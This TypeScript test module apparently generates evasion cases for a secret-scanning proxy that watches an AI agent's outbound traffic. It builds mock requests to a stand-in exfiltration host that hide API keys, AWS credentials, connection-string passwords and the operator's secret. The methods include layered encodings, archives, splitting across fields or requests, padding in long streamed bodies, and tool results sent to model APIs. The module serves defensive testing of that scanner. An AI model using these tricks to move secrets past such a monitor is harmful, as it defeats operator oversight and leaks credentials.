/**
 * Positives under a trick: the secret encoded (base64 at every alignment, base64url, hex,
 * base32, UTF-16, reversed, lower-cased), packed (zip, tar.gz, a .gz file, gzip then
 * base64, base64 twice), split (across JSON fields, across two requests), or written in a
 * form a naive scanner skips (connection strings, a bare Mailgun key, a header name, an AWS
 * key pair inside base64 JSON). Each case names its family; the test reports a catch rate
 * per family. Pure.
 */
import zlib from "node:zlib";
import { SECRET_RULE_IDS } from "../../rules/mod.ts";
import { ALNUM, HEX, type Rng } from "../random.ts";
import { sample, SAMPLES } from "../samples.ts";
import { sourceCode } from "../benign.ts";
import { unicodeEscapedJson } from "./carriers.ts";
import { base32, base64, base64url, hex, tarArchive, utf16, zipArchive } from "./encode.ts";
import {
  anthropicMessages,
  CLAUDE_HEADERS,
  envOutput,
  OPENAI_HEADERS,
  openaiResponses,
} from "./benign.ts";
import { type CorpusCase, EXFIL_HOST, utf8, type WireRequest } from "./wire.ts";

export interface EvasionContext {
  /** A bottle secret (the operator's real value some route injects), opaque. */
  bottleSecret: string;
  /** The placeholder the agent holds, per credentialed route host (benign.ts). */
  placeholders: Record<string, string>;
}

/** Formats the encoding families wrap, each a bare token (its text is the secret). */
const TOKEN_FORMATS = [
  "anthropic-api-key",
  "github-pat",
  "aws-access-key-id",
  "openai-api-key",
  "slack-bot-token",
  "stripe-secret-key",
  "gitlab-pat",
  "npm-access-token",
];

interface Secret {
  rule: string;
  text: string;
  secret: string;
}

function available(rule: string): boolean {
  return SECRET_RULE_IDS.includes(rule) && typeof SAMPLES[rule] === "function";
}

/** `count` samples of the token formats present today, round robin. */
function tokens(r: Rng, count: number, offset = 0): Secret[] {
  const rules = TOKEN_FORMATS.filter(available);
  const out: Secret[] = [];
  for (let i = 0; i < count && rules.length > 0; i++) {
    const rule = rules[(i + offset) % rules.length];
    out.push({ rule, ...sample(rule, r) });
  }
  return out;
}

const UA: [string, string] = ["User-Agent", "python-requests/2.32.3"];

function post(
  path: string,
  type: string,
  body: Uint8Array | string,
  extra: [string, string][] = [],
): WireRequest {
  return {
    method: "POST",
    path,
    headers: [UA, ["Content-Type", type], ...extra],
    body: typeof body === "string" ? utf8(body) : body,
  };
}

function get(path: string, extra: [string, string][] = []): WireRequest {
  return { method: "GET", path, headers: [UA, ["Accept", "*/*"], ...extra] };
}

/**
 * A small log with `text` in prose (no key name: only the format's own rule can tell it is a
 * secret), `lead` bytes of padding in (its offset moves with it).
 */
function document(text: string, lead: number): string {
  const header = "# build log, scripts/setup.sh".padEnd(30 + lead, "#");
  return `${header}\nstep 3/7: fetched 12 packages\nrotated ${text} at 12:04\nstep 4/7: done\n`;
}

/** The secret in prose, or (`assigned`) in a `.env` line a key-name rule also knows. */
function mention(text: string, assigned: boolean): string {
  return assigned ? `APP_ENV=production\nAPI_TOKEN=${text}\n` : `rotated ${text} at 12:04\n`;
}

/** The document with `text` at a byte offset ≡ `alignment` (mod 3). */
function withAlignment(text: string, alignment: number): string {
  const doc = document(text, 0);
  const at = utf8(doc.slice(0, doc.indexOf(text))).length;
  return document(text, (alignment - (at % 3) + 3) % 3);
}

function strongPassword(r: Rng): string {
  const weak =
    /test|secret|token|passw|example|sample|dummy|fake|mock|null|0123|1234|2345|3456|4567|5678|6789|abcd|bcde|cdef|qwer|asdf|(.)\1{2}/i;
  for (let i = 0; i < 1000; i++) {
    const p = r.chars(ALNUM + "-_.~!*", 14 + r.int(10));
    if (/[A-Z]/.test(p) && /[a-z]/.test(p) && /[0-9]/.test(p) && !weak.test(p)) return p;
  }
  throw new Error("no password drawn");
}

function split(text: string): [string, string] {
  const at = Math.floor(text.length / 2);
  return [text.slice(0, at), text.slice(at)];
}

export function evasionCases(r: Rng, context: EvasionContext): CorpusCase[] {
  const cases: CorpusCase[] = [];
  const add = (
    family: string,
    name: string,
    requests: WireRequest[],
    secrets: string[],
    extra: Partial<CorpusCase> = {},
  ): void => {
    cases.push({ group: "evasion", family, name, host: EXFIL_HOST, requests, secrets, ...extra });
  };

  for (const alignment of [0, 1, 2]) {
    for (const s of tokens(r, 5, alignment)) {
      const encoded = base64(withAlignment(s.text, alignment));
      add(
        `base64 offset ${alignment}`,
        `${s.rule} in a base64 log file (JSON field)`,
        [post(
          "/v1/files",
          "application/json",
          JSON.stringify({ name: "build.log", content: encoded }),
        )],
        [s.secret],
      );
    }
  }
  tokens(r, 5, 1).forEach((s, i) => {
    const encoded = base64url(withAlignment(s.text, i % 3));
    add(
      "base64url",
      `${s.rule} in base64url (${i % 2 ? "query" : "JSON"})`,
      [
        i % 2
          ? get(`/oauth/callback?code=abc&state=${encoded}`)
          : post("/v1/state", "application/json", JSON.stringify({ state: encoded })),
      ],
      [s.secret],
    );
  });
  for (const upper of [false, true]) {
    tokens(r, 5, upper ? 3 : 2).forEach((s) => {
      const encoded = hex(mention(s.text, false));
      add(
        upper ? "hex upper" : "hex lower",
        `${s.rule} as ${upper ? "upper" : "lower"}-case hex (JSON)`,
        [post(
          "/v1/blob",
          "application/json",
          JSON.stringify({ blob: upper ? encoded.toUpperCase() : encoded }),
        )],
        [s.secret],
      );
    });
  }
  tokens(r, 5, 4).forEach((s) => {
    add(
      "base32",
      `${s.rule} in base32 (text body)`,
      [post("/v1/blob", "text/plain", `data: ${base32(utf8(mention(s.text, false)))}\n`)],
      [s.secret],
      { forms: [base32(utf8(s.secret))] },
    );
  });
  for (const endian of ["le", "be"] as const) {
    const variants: Array<[string, boolean, string]> = [
      ["with BOM", true, "application/json"],
      ["no BOM, charset", false, `application/json; charset=utf-16${endian}`],
      ["no BOM, no charset", false, "application/json"],
    ];
    tokens(r, 6, endian === "le" ? 0 : 3).forEach((s, i) => {
      const [label, bom, type] = variants[i % 3];
      add(
        `utf-16${endian} json`,
        `${s.rule} in a UTF-16${endian.toUpperCase()} JSON body (${label})`,
        [post("/v1/notes", type, utf16(JSON.stringify({ note: s.text }), endian, bom))],
        [s.secret],
      );
    });
  }
  tokens(r, 5, 5).forEach((s) => {
    const reversed = [...s.secret].reverse().join("");
    add(
      "reversed",
      `${s.rule} reversed (text body)`,
      [
        post("/v1/notes", "text/plain", `note: ${[...s.text].reverse().join("")}\n`),
      ],
      [s.secret],
      { forms: [reversed] },
    );
  });
  if (available("aws-access-key-id")) {
    const shapes: Array<(key: string) => WireRequest> = [
      (key) => post("/v1/notes", "text/plain", `[default]\naws_access_key_id = ${key}\n`),
      (key) => get("/v1/ping", [["X-Aws-Key", key]]),
      (key) => get(`/v1/lookup?key=${key}`),
    ];
    shapes.forEach((shape, i) => {
      const { secret } = sample("aws-access-key-id", r);
      add(
        "aws key id lower-cased",
        `lower-cased AWS key id (${["body", "header", "query"][i]})`,
        [
          shape(secret.toLowerCase()),
        ],
        [secret],
        { forms: [secret.toLowerCase()] },
      );
    });
  }
  tokens(r, 4, 6).forEach((s, i) => {
    const assigned = i >= 2;
    const zip = zipArchive([
      ["README.md", "# project\n\nSee docs/.\n"],
      [assigned ? ".env" : "notes.txt", mention(s.text, assigned)],
    ]);
    add(
      "zip upload",
      `${s.rule} in a deflated zip member (${i % 2 ? "multipart" : "raw"}${
        assigned ? ", .env" : ""
      })`,
      [
        i % 2
          ? post(
            "/v1/upload",
            "multipart/form-data; boundary=zz",
            new Uint8Array([
              ...utf8(
                `--zz\r\nContent-Disposition: form-data; name="file"; filename="src.zip"\r\n` +
                  `Content-Type: application/zip\r\n\r\n`,
              ),
              ...zip,
              ...utf8("\r\n--zz--\r\n"),
            ]),
          )
          : post("/v1/upload/src.zip", "application/zip", zip),
      ],
      [s.secret],
    );
  });
  tokens(r, 4, 7).forEach((s, i) => {
    const assigned = i >= 2;
    const tgz = zlib.gzipSync(tarArchive([
      ["project/README.md", "# project\n"],
      [assigned ? "project/.env" : "project/notes.txt", mention(s.text, assigned)],
    ]));
    add("tar.gz upload", `${s.rule} in a tar.gz member${assigned ? " (.env)" : ""}`, [
      post("/v1/upload/backup.tar.gz", "application/gzip", tgz),
    ], [s.secret]);
  });
  tokens(r, 4, 2).forEach((s) => {
    add("gz file body", `${s.rule} in a .gz file body (no Content-Encoding)`, [
      post(
        "/v1/upload/notes.txt.gz",
        "application/octet-stream",
        zlib.gzipSync(utf8(`token ${s.text}\n`)),
      ),
    ], [s.secret]);
  });
  tokens(r, 6, 1).forEach((s, i) => {
    const [a, b] = split(s.text);
    const bodies = [
      { part1: a, part2: b },
      { parts: [a, b] },
      { prefix: a, id: 7, suffix: b },
    ];
    add("json split fields", `${s.rule} split across two JSON strings (shape ${i % 3})`, [
      post("/v1/notes", "application/json", JSON.stringify(bodies[i % 3])),
    ], [s.secret]);
  });
  {
    const secret = context.bottleSecret;
    const [a, b] = split(secret);
    add(
      "bottle secret split across requests",
      "bottle secret halves in two JSON bodies",
      [
        post("/v1/notes", "application/json", JSON.stringify({ part: a })),
        post("/v1/notes", "application/json", JSON.stringify({ part: b })),
      ],
      [secret],
      { wholeFormsOnly: true },
    );
    add(
      "bottle secret split across requests",
      "bottle secret halves in two queries",
      [
        get(`/v1/log?m=${encodeURIComponent(a)}`),
        get(`/v1/log?m=${encodeURIComponent(b)}`),
      ],
      [secret],
      { wholeFormsOnly: true },
    );
    const encodings: Array<[string, WireRequest]> = [
      ["raw body", post("/v1/notes", "text/plain", `key ${secret}\n`)],
      ["base64 header", get("/v1/ping", [["X-Blob", base64(`k=${secret}`)]])],
      ["hex query", get(`/v1/ping?h=${hex(secret)}`)],
      ["json \\u body", post("/v1/notes", "application/json", unicodeEscapedJson(secret))],
      ["gzip body", {
        ...post("/v1/notes", "text/plain", zlib.gzipSync(utf8(secret))),
        headers: [UA, ["Content-Type", "text/plain"], ["Content-Encoding", "gzip"]],
      }],
    ];
    for (const [label, request] of encodings) {
      add("bottle secret encoded", `bottle secret, ${label}`, [request], [secret]);
    }
  }
  tokens(r, 4, 3).forEach((s) => {
    add("double base64", `${s.rule} base64 twice (JSON)`, [
      post(
        "/v1/blob",
        "application/json",
        JSON.stringify({ blob: base64(base64(mention(s.text, false))) }),
      ),
    ], [s.secret]);
  });
  tokens(r, 4, 4).forEach((s) => {
    add("base64 of gzip", `${s.rule} gzip then base64 (JSON)`, [
      post(
        "/v1/blob",
        "application/json",
        JSON.stringify({ blob: base64(zlib.gzipSync(utf8(mention(s.text, false)))) }),
      ),
    ], [s.secret]);
  });
  // Streamed: the proxy forwards a long body as it clears it, so hundreds of KiB go out
  // before the secret arrives; not one byte of the secret may go with them.
  tokens(r, 8, 0).forEach((s, i) => {
    const before = sourceCode(r, 6000 + r.int(2000));
    const after = sourceCode(r, 1000);
    const inner = i >= 6
      ? `blob ${base64(mention(s.text, false))}`
      : i % 4 === 0
      ? `const token = "${s.text}";`
      : `// rotated ${s.text} at 12:04`;
    const json = i % 2 === 1;
    const text = json
      ? JSON.stringify({
        files: [{ path: "a.ts", content: before }, { path: "b.ts", content: `${inner}\n${after}` }],
      })
      : `${before}${inner}\n${after}`;
    add(
      "deep in a streamed body",
      `${s.rule} ${Math.round(before.length / 1024)} KiB into a ${json ? "JSON" : "text"} body${
        i % 4 >= 2 ? ", chunked" : ""
      }${i >= 6 ? ", base64" : ""}`,
      [{
        ...post("/v1/files", json ? "application/json" : "text/plain", text),
        ...(i % 4 >= 2 ? { chunkSize: 4096 } : {}),
      }],
      [s.secret],
    );
  });
  // Pasted into the conversation with a model (a credentialed route, HTTPS only): there a
  // built-in format is only warned (the provider sees what the agent reads), but the
  // operator's real secrets — the bottle's own — must never reach the provider.
  [0, 1, 2, 3].forEach((i) => {
    const s = { rule: "bottle-secret", secret: context.bottleSecret };
    const value = i < 2 ? context.bottleSecret : base64(context.bottleSecret);
    const output = `${envOutput(r, context.placeholders)}VAULT_TOKEN=${value}\n`;
    const anthropic = i % 2 === 0;
    cases.push({
      group: "evasion",
      family: "secret in a model api body",
      name: `${s.rule} in ${anthropic ? "an Anthropic" : "an OpenAI"} tool result`,
      host: anthropic ? "api.anthropic.com" : "api.openai.com",
      requests: [{
        method: "POST",
        path: anthropic ? "/v1/messages?beta=true" : "/v1/responses",
        headers: anthropic
          ? CLAUDE_HEADERS(context.placeholders["api.anthropic.com"])
          : OPENAI_HEADERS(context.placeholders["api.openai.com"], r),
        body: utf8(anthropic ? anthropicMessages(r, [output]) : openaiResponses(r, [output])),
      }],
      secrets: [s.secret],
      transports: ["https"],
    });
  });
  const connections: Array<(pw: string) => string> = [
    (pw) => `postgres://app:${pw}@db.prod.internal:5432/app`,
    (pw) => `postgresql://admin:${pw}@10.0.3.7/orders?sslmode=require`,
    (pw) => `mysql://root:${pw}@mysql.internal:3306/shop`,
    (pw) => `mongodb+srv://svc:${pw}@cluster0.ab1cd.mongodb.net/prod?retryWrites=true`,
    (pw) => `redis://:${pw}@cache.internal:6379/0`,
    (pw) => `https://deploy:${pw}@git.example.com/org/repo.git`,
  ];
  const places: Array<[string, (url: string) => WireRequest]> = [
    ["path", (url) => get(`/v1/connect/${encodeURIComponent(url)}`)],
    ["query", (url) => get(`/v1/check?dsn=${encodeURIComponent(url)}`)],
    ["header", (url) => get("/v1/check", [["X-Database-Url", url]])],
    ["body", (url) => post("/v1/notes", "text/plain", `# .env\nDATABASE_URL=${url}\nPORT=8080\n`)],
  ];
  for (const connection of connections) {
    for (const [place, carry] of places) {
      const pw = strongPassword(r);
      const url = connection(pw);
      add("connection string", `${url.split(":")[0]}:// password in the ${place}`, [carry(url)], [
        pw,
      ]);
    }
  }
  const mailgun = (): string => `${r.chars(HEX, 32)}-${r.chars(HEX, 8)}-${r.chars(HEX, 8)}`;
  const mailgunShapes: Array<[string, (key: string) => WireRequest]> = [
    ["JSON body", (key) => post("/v1/notes", "application/json", JSON.stringify({ note: key }))],
    [
      "basic auth",
      (key) => get("/v3/domains", [["Authorization", `Basic ${base64(`api:${key}`)}`]]),
    ],
    ["query", (key) => get(`/v1/ping?k=${key}`)],
  ];
  for (const [label, shape] of mailgunShapes) {
    const key = mailgun();
    add("mailgun bare key", `<32hex>-<8hex>-<8hex> alone (${label})`, [shape(key)], [key]);
  }
  for (
    const rule of ["anthropic-api-key", "github-pat", "github-fine-grained-pat", "slack-bot-token"]
  ) {
    if (!available(rule)) continue;
    const { secret } = sample(rule, r);
    const name = rule === "anthropic-api-key" || rule === "slack-bot-token"
      ? `X-${secret}`
      : secret;
    add(
      "secret as header name",
      `${rule} as a header name (${name.startsWith("X-") ? "X-…" : "bare"})`,
      [
        get("/v1/ping", [[name, "1"]]),
      ],
      [secret],
    );
  }
  if (available("aws-access-key-id") && available("aws-secret-access-key")) {
    const shapes: Array<[string, (b64: string) => WireRequest]> = [
      ["text body", (b64) => post("/v1/blob", "text/plain", b64)],
      ["JSON field", (b64) => post("/v1/blob", "application/json", JSON.stringify({ creds: b64 }))],
      ["header", (b64) => get("/v1/ping", [["X-Creds", b64]])],
    ];
    for (const [label, shape] of shapes) {
      const id = sample("aws-access-key-id", r).secret;
      const key = sample("aws-secret-access-key", r).secret;
      const json = JSON.stringify({ AccessKeyId: id, SecretAccessKey: key, Region: "us-east-1" });
      add("aws key pair in base64 json", `AccessKeyId + SecretAccessKey, base64 JSON (${label})`, [
        shape(base64(json)),
      ], [id, key]);
    }
  }
  return cases;
}
